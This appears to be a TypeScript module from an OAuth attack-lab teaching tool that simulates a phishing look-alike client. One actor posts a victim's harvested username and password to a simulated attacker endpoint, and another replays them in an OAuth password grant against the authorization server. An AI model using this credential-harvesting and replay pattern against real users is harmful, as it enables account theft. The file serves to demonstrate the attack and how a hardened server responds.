import { fromPromise } from 'xstate';
import { attackerUrl } from '@/lib/attack-lab/attacker-log';
import type { Outcome } from '@/lib/attack-lab/verdict';
import { recordFetch } from '@/lib/http-trace/record';
import type { ServerMetadata } from '@/lib/oauth-client/discovery';
import { ok } from '@/lib/oauth-client/result';
import { processTokenResponse, type TokenSet } from '@/lib/oauth-client/token-response';
import type { RealmDescriptor } from '@/lib/realms/descriptor';
import { passwordGrantRequest } from '../password.actors';
import { discover } from '@/machines/shared';
import { networkFailure, type StepInput, type StepOutput } from '../step-output';

/** The look-alike app is registered at the AS like any third-party app: the lab's `legacy-app` plays it. */
export const LOOK_ALIKE_CLIENT = { clientId: 'legacy-app', secret: 'legacy-secret', method: 'client_secret_basic' as const };

export interface Harvested {
  username: string;
  password: string;
}

/** The look-alike's backend keeps a copy on Mallory's site: a form POST to `/attacker/{realm}/harvest`, which her site records. */
export const harvestActor = fromPromise<StepOutput<true>, StepInput<{ origin: string; realm: RealmDescriptor; creds: Harvested }>>(
  async ({ input }) => {
    const { step } = input;
    try {
      const request = new Request(`${input.origin}${attackerUrl(input.realm, 'harvest')}`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ username: input.creds.username, password: input.creds.password }).toString(),
      });
      const { exchange } = await recordFetch(request, { step, from: 'client', to: 'attacker' });
      return { step, exchanges: [exchange], result: ok(true) };
    } catch (e) {
      return networkFailure(step, e);
    }
  },
);

export interface PasswordTokenAnswer {
  metadata: ServerMetadata;
  tokens?: TokenSet;
  /** Set when the AS refused: the attack is decided here (blocked). */
  outcome?: Outcome;
}

/**
 * Discovery, then the password grant with Alice's harvested password (RFC 6749 §4.3.2), from Mallory's
 * side. A refusal is the hardened outcome, not a broken run: the password was harvested all the same.
 */
export const passwordTokenActor = fromPromise<StepOutput<PasswordTokenAnswer>, StepInput<{ realm: RealmDescriptor; creds: Harvested }>>(
  async ({ input }) => {
    const { step } = input;
    const found = await discover(input.realm.issuer, step, 'attacker');
    if (!found.result.ok) return { ...found, result: found.result };
    const metadata = found.result.value;
    try {
      const request = passwordGrantRequest(metadata.token_endpoint, LOOK_ALIKE_CLIENT, {
        ...input.creds,
        scope: 'profile photos:read offline_access',
      });
      const { exchange, response, body } = await recordFetch(request, { step, from: 'attacker', to: 'as' });
      const exchanges = [...found.exchanges, exchange];
      const tokens = processTokenResponse(response.status, body);
      if (tokens.ok) return { step, exchanges, result: ok({ metadata, tokens: tokens.value }) };
      const outcome: Outcome = {
        succeeded: false,
        what:
          `the authorization server refused grant_type=password: ${tokens.error.message} No token was issued, ` +
          `so Mallory cannot call the API with it. But the password itself was typed into the look-alike and is ` +
          `in her console: what the hardened AS stops is the token, not the phishing — she can still try it on ` +
          `the AS’s own sign-in page or anywhere else Alice reuses it.`,
      };
      return { step, exchanges, facts: [{ label: 'HTTP status', value: String(response.status) }], result: ok({ metadata, outcome }) };
    } catch (e) {
      return networkFailure(step, e);
    }
  },
);
